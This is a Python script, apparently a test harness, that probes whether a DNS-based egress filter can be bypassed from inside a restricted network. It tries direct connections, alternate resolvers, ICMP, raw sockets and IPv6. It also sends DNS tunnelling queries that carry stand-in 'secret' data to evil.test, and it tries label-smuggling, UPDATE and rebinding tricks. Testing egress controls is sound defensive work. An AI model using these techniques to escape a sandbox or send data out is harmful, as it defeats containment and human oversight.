"""Ways around rules for names, from inside: `names.py <resolver> <forbidden address> <port>` prints JSON of outcomes."""
import json, os, socket, struct, sys, time

resolver, forbidden, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
outcomes = {}


def attempt(name, work):
    try:
        outcomes[name] = work()
    except OSError as error:
        outcomes[name] = f'errno {error.errno}' if error.errno else 'timeout'


def query(name, kind, flags=0x0100, tail=b''):
    labels = b''.join(bytes([len(part)]) + part for part in name.encode('latin1').split(b'.') if part)
    return struct.pack('!6H', os.getpid() & 0xffff, flags, 1, 0, 0, 0) + labels + b'\0' + struct.pack('!2H', kind, 1) + tail


def udp(address, message, at=53):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1.5)
        s.connect((address, at))
        s.send(message)
        return s.recv(4096)


def tcp(address, message, at=53):
    with socket.create_connection((address, at), 1.5) as s:
        s.settimeout(1.5)
        s.sendall(struct.pack('!H', len(message)) + message)
        return s.recv(4096)[2:]


def code(answer):
    flags, _, answers = struct.unpack('!3H', answer[2:8])
    return f'code {flags & 15} answers {answers}'


def ping(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.settimeout(1.5)
        s.sendto(struct.pack('!BBHHH', 8, 0, 0, 1, 1) + b'secret', (address, 0))
        return 'answered ' + str(len(s.recv(1000)))


def raw(family, kind, protocol):
    socket.socket(family, kind, protocol).close()
    return 'opened'


# Past the resolver.
for at in (port, 53, 443, 853):
    attempt(f'connect {at}', lambda at=at: socket.create_connection((forbidden, at), 1.5) and 'open')
attempt('other resolver, udp', lambda: code(udp(forbidden, query('udp.evil.test', 1))))
attempt('other resolver, tcp', lambda: code(tcp(forbidden, query('tcp.evil.test', 1))))
attempt('ping', lambda: ping(forbidden))
attempt('ipv6', lambda: socket.create_connection(('2001:db8::1', port), 1.5) and 'open')
attempt('ipv6 mapped', lambda: socket.create_connection(('::ffff:' + forbidden, port), 1.5) and 'open')
attempt('raw ip', lambda: raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
attempt('packets', lambda: raw(socket.AF_PACKET, socket.SOCK_RAW, 3))
attempt('sctp', lambda: raw(socket.AF_INET, socket.SOCK_STREAM, 132))
# Through it.
secret = 'a' * 60
for kind in (1, 28, 16, 10, 5, 15, 255, 252, 65400):
    attempt(f'tunnel {kind}', lambda kind=kind: code(udp(resolver, query(f'{secret}.{secret}.evil.test', kind))))
attempt('tunnel by tcp', lambda: code(tcp(resolver, query(f'{secret}.tcp.evil.test', 16))))
attempt('suffix', lambda: code(udp(resolver, query('ok.test.evil.test', 1))))
attempt('prefix', lambda: code(udp(resolver, query('evil-ok.test', 1))))
attempt('below', lambda: code(udp(resolver, query('secret.ok.test', 1))))
attempt('two questions', lambda: code(udp(resolver, struct.pack('!6H', 7, 0x0100, 2, 0, 0, 0) + query('ok.test', 1)[12:] + query('two.evil.test', 1)[12:])))
attempt('update', lambda: code(udp(resolver, query('evil.test', 6, flags=0x2800))))
attempt('zero in a label', lambda: code(udp(resolver, query('ok.test\0.evil.test', 1))))
attempt('dot in a label', lambda: code(udp(resolver, query('x', 1).replace(b'\x01x\0', b'\x0cevil.ok.test\0'))))
for host in ('loop', 'meta', 'private', 'gateway', 'mixed'):
    attempt(f'rebind {host}', lambda host=host: code(udp(resolver, query(f'{host}.wild.test', 1))))
print(json.dumps(outcomes))
